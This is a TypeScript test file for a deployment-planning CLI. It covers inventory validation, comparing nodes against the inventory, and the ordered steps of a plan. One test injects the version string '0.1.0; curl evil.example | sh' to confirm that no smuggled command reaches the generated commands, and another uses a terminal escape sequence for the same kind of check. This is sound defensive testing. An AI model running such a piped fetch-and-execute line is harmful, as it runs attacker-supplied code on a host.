/** `weft deploy plan` without a control: what it refuses, what it compares, the order and the words of its steps. */

import { readFileSync } from "node:fs";
import { create } from "@bufbuild/protobuf";
import type { Command } from "commander";
import { describe, expect, it } from "vitest";
import { type Compared, compare } from "../../../../cli/deploy/compare.ts";
import { type Inventory, readInventory } from "../../../../cli/deploy/inventory.ts";
import { type DeployPlan, planOf, planText } from "../../../../cli/deploy/plan.ts";
import { configurationOf } from "../../../../cli/deploy/steps.ts";
import { buildProgram } from "../../../../cli/program.ts";
import { type Node, NodeSchema } from "../../../../gen/weft/admin/v1/node_pb.ts";
import { NodeHealth, NodeRole } from "../../../../gen/weft/fabric/v1/role_pb.ts";
import { loadNodeConfig } from "../../../../node/config.ts";

const good = `
version: 0.2.0
control:
  - { name: control-1, host: control.example, public: "control.example:7400" }
nodes:
  - { name: entry-1, host: control.example, roles: [entry], listen: "0.0.0.0:7444", advertise: ["control.example:7444"] }
  - name: egress-1
    host: egress.example
    roles: [egress]
    dialOutOnly: true
    pool: office
    targets: [{ cidr: 10.20.0.0/16, fromPort: 443, toPort: 443 }]
  - { name: relay-1, host: relay.example, roles: [relay], listen: "0.0.0.0:7444", advertise: ["relay.example:7444"], region: eu }
`;

function problemsOf(text: string): readonly string[] {
  try {
    readInventory(text);
    return [];
  } catch (thrown) {
    return (thrown as { problems: readonly string[] }).problems;
  }
}

describe("an inventory", () => {
  it("M-L9 with places left to fill in is refused, wherever and however they are written", () => {
    for (const unfilled of [
      "<FILL>",
      "CHANGEME",
      "change-me",
      ["$", "{HOST}"].join(""),
      "{{ host }}",
      "replace this",
      "%HOST%",
      "tbd",
    ]) {
      const text = good.replace("region: eu", `region: "${unfilled}"`);
      expect(problemsOf(text), unfilled).toEqual([expect.stringMatching(/^nodes\[2\]\.region: .*placeholder/)]);
    }
    expect(problemsOf(good.replace("region: eu", "region:"))).toEqual([expect.stringMatching(/region: is empty/)]);
    expect(problemsOf(good.replace("region: eu", "region: eu-central"))).toEqual([]);
  });

  it("M-L9 tells everything that is wrong at once", () => {
    const problems = problemsOf(`
cluster: <FILL>
control:
  - { name: control-1, host: control.example, public: "0.0.0.0:7400" }
nodes:
  - { name: entry-1, host: a.example, roles: [entry, entri], listen: "0.0.0.0:7444", advertise: [CHANGEME], colour: red }
  - { name: entry-1, host: b.example, roles: [entry], dialOutOnly: true, advertise: ["c.example:1"], pool: office }
  - { name: entry-2, host: c.example, roles: [entry], listen: "0.0.0.0:7444", advertise: ["c.example:1", "localhost:2"] }
  - { name: entry-3, host: c.example, roles: [entry], listen: "0.0.0.0:7444", advertise: ["nowhere"] }
`).join("\n");
    for (const word of [
      'cluster: "<FILL>"',
      'advertise[0]: "CHANGEME"',
      'Unrecognized key: "colour"',
      "roles[1]: Invalid option",
      "0.0.0.0:7400 is no address to dial",
      "name entry-1 is given 2 times: a.example, b.example",
      "entry-1: a node that only dials out has no address",
      "entry-1: only an egress belongs to a pool",
      "address c.example:1 is given 2 times: entry-1, entry-2",
      "localhost:2 means another host wherever it is read",
      'nodes[3].advertise[0]: write host:port, not "nowhere"',
      "no relay and no egress: no path leads",
    ]) {
      expect(problems).toContain(word);
    }
  });

  it("refuses ports and hosts that are taken, a relay nobody can dial, and what is no inventory", () => {
    const clash = good.replace(
      'listen: "0.0.0.0:7444", advertise: ["control',
      'listen: "0.0.0.0:7400", advertise: ["control',
    );
    expect(problemsOf(clash)).toEqual(["port 7400 of control.example is given 2 times: control-1 (public), entry-1"]);
    expect(problemsOf(good.replace("relay.example, roles", "egress.example, roles"))).toEqual([
      expect.stringMatching(/egress\.example is given 2 times: egress-1, relay-1/),
    ]);
    expect(problemsOf(good.replace("roles: [egress]", "roles: [egress, relay]"))).toEqual([
      expect.stringMatching(/a relay is dialled by others/),
    ]);
    for (const none of ["", "[]", "word", "null"]) expect(problemsOf(none).length, none).toBeGreaterThan(0);
    expect(problemsOf("a: 1\na: 2")).toEqual([expect.stringMatching(/unique/i)]);
    expect(problemsOf("a: &x [1]\nb: *x")).toEqual([expect.stringMatching(/anchors/)]);
    expect(problemsOf("a: [")).not.toEqual([]);
    expect(problemsOf(JSON.stringify(readable(good)))).toEqual([]);
  });
});

/** As people would write it in JSON. */
function readable(text: string): object {
  const { version, control, nodes } = readInventory(text);
  const word = ({ host, port }: { host: string; port: number }): string => `${host}:${port}`;
  return {
    version,
    control: control.map((each) => ({ ...each, public: word(each.public), operator: word(each.operator) })),
    nodes: nodes.map(({ listen, advertise, region, ...rest }) => ({
      ...rest,
      ...(region === "" ? {} : { region }),
      ...(listen === undefined ? {} : { listen: word(listen) }),
      advertise: advertise.map(word),
    })),
  };
}

const inventory = readInventory(good);
const nodeOf = (name: string, role: NodeRole, rest: Partial<Node> = {}): Node =>
  create(NodeSchema, {
    id: `nd-${name}`,
    name,
    identityStatus: "active",
    membershipStatus: "active",
    health: NodeHealth.ONLINE,
    version: "0.2.0",
    roles: [{ role }],
    ...(rest as object),
  });
const asWritten: readonly Node[] = [
  nodeOf("entry-1", NodeRole.ENTRY, { addresses: [{ host: "control.example", port: 7444 }] } as never),
  nodeOf("egress-1", NodeRole.EGRESS, { dialOutOnly: true }),
  nodeOf("relay-1", NodeRole.RELAY, { addresses: [{ host: "relay.example", port: 7444 }], region: "eu" } as never),
];
const office = [{ name: "office", nodeIds: ["nd-egress-1"] }];

function compared(name: string, nodes: readonly Node[], pools = office): Compared {
  const found = compare(inventory, { nodes, pools }).find(({ node }) => node.name === name);
  if (found === undefined) throw new Error(`no ${name}`);
  return found;
}

function changed(name: string, rest: object): readonly Node[] {
  return asWritten.map((node) => (node.name === name ? create(NodeSchema, { ...node, ...rest } as never) : node));
}

describe("a comparison", () => {
  it("finds nothing where control has what the file says", () => {
    expect(compare(inventory, { nodes: asWritten, pools: office }).map(({ action }) => action)).toEqual(
      inventory.nodes.map(() => "keep"),
    );
  });

  it.each([
    ["relay-1", { roles: [{ role: NodeRole.ENTRY }] }, "change", "roles", "entry", "relay"],
    ["relay-1", { version: "0.1.0" }, "change", "version", "0.1.0", "0.2.0"],
    ["relay-1", { region: "us" }, "rejoin", "region", "us", "eu"],
    ["relay-1", { addresses: [{ host: "old", port: 1 }] }, "rejoin", "addresses", "old:1", "relay.example:7444"],
    ["egress-1", { dialOutOnly: false }, "rejoin", "addresses", "", "dial-out only"],
  ])("of %s with %j says %s: %s", (name, rest, action, what, now, wanted) => {
    const { action: found, differences } = compared(name, changed(name, rest));
    expect({ found, differences }).toEqual({ found: action, differences: [{ what, now, wanted }] });
  });

  it("takes a revoked node for none, a missing pool for a change, and says who is not well", () => {
    expect(compared("relay-1", changed("relay-1", { identityStatus: "revoked" })).action).toBe("join");
    expect(compared("egress-1", asWritten, []).differences).toEqual([{ what: "pool", now: "", wanted: "office" }]);
    const { action, unwell } = compared("relay-1", changed("relay-1", { health: NodeHealth.STALE, draining: true }));
    expect({ action, unwell }).toEqual({ action: "keep", unwell: ["it is stale", "it is draining"] });
  });
});

const pinned = {
  trustDomain: "weft-x.internal",
  installationKeyHash: "ab".repeat(32),
  defaultCluster: "default",
  clusters: [{ id: "cl-1", slug: "default", controlRoots: ["AA=="], nodeRoots: ["AA=="] }],
};
const planned = (running: Parameters<typeof compare>[1], from: Inventory = inventory): DeployPlan =>
  planOf(from, { file: "deploy.yaml", cluster: "default", pinned, running });

describe("a plan", () => {
  it("M-L9 goes host after host, relays first and entries last: backup, steps with their way back, a gate", () => {
    const plan = planned({ nodes: [], pools: [] });
    expect(plan.nodes.map(({ name }) => name)).toEqual(["relay-1", "egress-1", "entry-1"]);
    for (const { name, steps } of plan.nodes) {
      expect(steps[0]?.commands).toEqual([`weft db backup --file /var/backups/weft/before-${name}.backup`]);
      expect(steps.at(-1)?.commands).toEqual([`weft deploy plan deploy.yaml --node ${name} --detailed-exitcode`]);
      // Only what changes something has a way back, and all of that has one.
      const without = steps.filter(({ rollback }) => rollback.length === 0).map(({ what }) => what.split(/[ ,;:]/)[0]);
      // A used-up token is of no use to anybody.
      expect(without).toEqual(["back", "write", "throw", "health"]);
    }
  });

  it("M-L9 backs up where docs/deploy.md does, and takes back from there", () => {
    const document = readFileSync(new URL("../../../../docs/deploy.md", import.meta.url), "utf8");
    const plans = [
      planned({ nodes: [], pools: [] }),
      planned({ nodes: changed("relay-1", { version: "0.1.0" }), pools: office }),
    ];
    const steps = plans.flatMap(({ control, nodes }) => [
      ...control,
      ...nodes.flatMap((node) => (node.name === "relay-1" ? node.steps : [])),
    ]);
    const said = steps
      .flatMap(({ commands, rollback }) => [...commands, ...rollback])
      .filter((line) => /^weft db (backup|restore) /.test(line));
    expect(said.length).toBeGreaterThanOrEqual(4);
    expect(said.filter((line) => !document.includes(`\n${line}\n`))).toEqual([]);
  });

  it("M-L9 takes back what a step did, and says so where nothing can", () => {
    const poolSteps = (nodes: readonly Node[]) =>
      planned({ nodes, pools: [] })
        .nodes.flatMap(({ steps }) => steps)
        .filter(({ commands }) => commands[0] === "weft pool add office egress-1");
    const [joining, changing] = [poolSteps([]), poolSteps(asWritten)];
    expect(joining).toMatchObject([{ rollback: [expect.stringMatching(/^# it leaves its pool when it is revoked/)] }]);
    expect(changing).toMatchObject([
      { rollback: [expect.stringMatching(/^# no command takes a node out of a pool: .*weft node revoke egress-1/)] },
    ]);
  });

  it("M-L9 cuts no word: what is not known yet is told whole, and what is known as it will be", () => {
    const nobody = { file: "deploy.yaml", cluster: "default", running: undefined };
    const [unknown, known] = [undefined, pinned].map((context) =>
      planText(planOf(inventory, { ...nobody, pinned: context }), (_, text) => text),
    );
    for (const label of ["CA pin", "identity", "control identity"]) {
      const line = new RegExp(`^  ${label} +not known here: .*operator's context.* weft control init makes it$`, "m");
      expect(unknown).toMatch(line);
    }
    expect(known).toMatch(
      /^ {2}control identity {2}spiffe:\/\/weft-x\.internal\/cluster\/cl-1\/control\/\{id: each control has its own\}$/m,
    );
    expect(`${unknown}${known}`).not.toContain("...");
  });

  it("M-L9 has per node a token by file, the CA pin and the identities to expect, and no secret", () => {
    const [relay] = planned({ nodes: [], pools: [] }).nodes;
    expect(relay).toMatchObject({
      caPin: `sha256:${"ab".repeat(32)}`,
      identity: expect.stringMatching(/^spiffe:\/\/weft-x\.internal\/cluster\/cl-1\/node\/\{id/),
      controlIdentity: "spiffe://weft-x.internal/cluster/cl-1/control/",
      token: {
        file: "relay-1.token",
        command: expect.stringMatching(/--uses 1 .*--name-prefix relay-1 --out relay-1\.token$/),
      },
    });
    const [kept] = planned({ nodes: asWritten, pools: office }).nodes;
    expect(kept).toMatchObject({ identity: "spiffe://weft-x.internal/cluster/cl-1/node/nd-relay-1", steps: [] });
    expect(kept).not.toHaveProperty("token");
    expect(JSON.stringify(planned({ nodes: [], pools: [] }))).not.toMatch(/PRIVATE|weft1\./);
  });

  it("upgrades control first, with a rehearsal before and the backup as the way back", () => {
    const plan = planned({ nodes: changed("relay-1", { version: "0.1.0" }), pools: office });
    expect(plan.control.flatMap(({ commands }) => commands)).toEqual([
      "weft db backup --file /var/backups/weft/before-0.2.0.backup",
      "/opt/weft-0.2.0/cli/weft.mjs db rehearse --config /etc/weft/control.json",
      "ln -sfn weft-0.2.0 /opt/weft",
      "systemctl restart weft-control",
      "weft doctor --control-config /etc/weft/control.json",
    ]);
    expect(plan.control.flatMap(({ rollback }) => rollback)).toContain("ln -sfn weft-0.1.0 /opt/weft");
    expect(plan.nodes.map(({ action }) => action)).toEqual(["change", "keep", "keep"]);
  });

  it("drains a node over its operator port where that can be reached, and leaves it to the stop where not", () => {
    const running = { nodes: changed("relay-1", { version: "0.1.0" }), pools: office };
    const reachable = readInventory(good.replace("region: eu", 'region: eu, operator: "10.0.0.2:7501"'));
    const [far, near] = [planned(running), planned(running, reachable)].map(({ nodes: [relay] }) => relay);
    expect(near?.steps.map(({ commands }) => commands[0])).toEqual([
      "weft db backup --file /var/backups/weft/before-relay-1.backup",
      "weft node drain relay-1",
      "ln -sfn weft-0.2.0 /opt/weft",
      "weft node undrain relay-1",
      "weft deploy plan deploy.yaml --node relay-1 --detailed-exitcode",
    ]);
    expect(far?.steps.map(({ commands }) => commands[0])).toEqual(
      near?.steps.map(({ commands }) => commands[0]).filter((line) => !/drain/.test(line ?? "")),
    );
    expect(loadNodeConfig({ env: {}, flags: near?.configuration ?? {} })).toMatchObject({
      operatorHost: "10.0.0.2",
      operatorPort: 7501,
    });
  });

  it("leaves nodes alone that the file does not name, and says what is seldom meant", () => {
    const plan = planned({ nodes: [...asWritten, nodeOf("other", NodeRole.RELAY)], pools: office });
    expect(plan).toMatchObject({
      pending: 0,
      unwell: 0,
      unlisted: ["other"],
      remarks: [expect.stringMatching(/one relay/)],
    });
    expect(planText(plan)).toMatch(/left alone: other/);
  });

  it("writes nothing into a command that a node said of itself, and that is no release", () => {
    const lie = "0.1.0; curl evil.example | sh";
    const plan = planned({ nodes: changed("relay-1", { version: lie }), pools: office });
    const steps = [...plan.control, ...plan.nodes.flatMap((node) => node.steps)];
    const commands = steps.flatMap((step) => [...step.commands, ...step.rollback]);
    expect(commands.filter((command) => command.includes("evil"))).toEqual([]);
    expect(commands).toContain("ln -sfn weft-BEFORE /opt/weft");
    expect(planText(plan)).toContain(`version: ${lie} -> 0.2.0`);
  });

  it("names its file as a shell takes it", () => {
    const nobody = { cluster: "default", pinned: undefined, running: undefined };
    const steps = planOf(inventory, { ...nobody, file: "my plan's.yaml" }).nodes.flatMap((node) => node.steps);
    const commands = steps.flatMap((step) => step.commands).filter((command) => command.startsWith("weft deploy plan"));
    expect(commands.length).toBeGreaterThan(0);
    for (const command of commands) expect(command).toMatch(/^weft deploy plan 'my plan'\\''s\.yaml' --node /);
  });

  it("repeats which installation is meant, in what an operator runs and nowhere else", () => {
    const meant = { context: "./plant two", cluster: "east" };
    const about = { file: "hosts.yaml", cluster: "east", pinned: undefined, running: undefined, meant };
    const nodes = planOf(inventory, about).nodes;
    const flags = "--context './plant two' --cluster east";
    expect(nodes.map(({ token }) => token?.command.endsWith(` ${flags}`))).toEqual(nodes.map(() => true));
    const steps = nodes.flatMap((node) => node.steps);
    for (const { on, commands, rollback } of steps) {
      for (const command of [...commands, ...rollback])
        expect(command.endsWith(` ${flags}`), command).toBe(on === "operator" && command.startsWith("weft "));
    }
  });

  it("is coloured on a terminal, and obeys nobody else there", () => {
    const plan = planned({ nodes: changed("relay-1", { version: "\u001b[2J" }), pools: office });
    const text = planText(plan, (action, shown) => `\u001b[1m${action}|${shown}\u001b[0m`);
    expect(text).toContain("\u001b[1mchange|change \u001b[0mrelay-1 on relay.example");
    expect(text).toContain("version: \\u001b[2J -> 0.2.0");
  });

  it("writes configurations that nodes take", () => {
    for (const node of inventory.nodes) {
      const flags = configurationOf(inventory, node);
      const known = loadNodeConfig({ env: {}, flags });
      expect(Object.keys(flags).filter((key) => !(key in known))).toEqual([]);
      expect(known.ceiling.roles).toEqual(node.roles);
    }
  });

  it("names only commands and flags that exist", async () => {
    const program = await buildProgram();
    const running = {
      nodes: changed("relay-1", { version: "0.1.0", roles: [{ role: NodeRole.ENTRY }], region: "us" }),
      pools: [],
    };
    const plans = [planned({ nodes: [], pools: [] }), planned(running)];
    const steps = plans.flatMap(({ control, nodes }) => [...control, ...nodes.flatMap((node) => node.steps)]);
    const lines = steps.flatMap(({ commands, rollback }) => [...commands, ...rollback]);
    const unknown = lines.flatMap((line) => {
      const words = line.split(" ");
      if (!/^(weft|.*\/weft\.mjs)$/.test(words[0] ?? "")) return [];
      let command: Command = program;
      for (const word of words.slice(1)) {
        const child = command.commands.find((each) => each.name() === word);
        if (child === undefined) break;
        command = child;
      }
      const flags = words.filter((word) => word.startsWith("--"));
      const missing = flags.filter((flag) => !command.options.some(({ long }) => long === flag));
      return command.commands.length > 0 || missing.length > 0 ? [`${line}: ${missing.join()}`] : [];
    });
    expect(unknown).toEqual([]);
    expect(lines.filter((line) => line.startsWith("weft ")).length).toBeGreaterThan(20);
  });
});
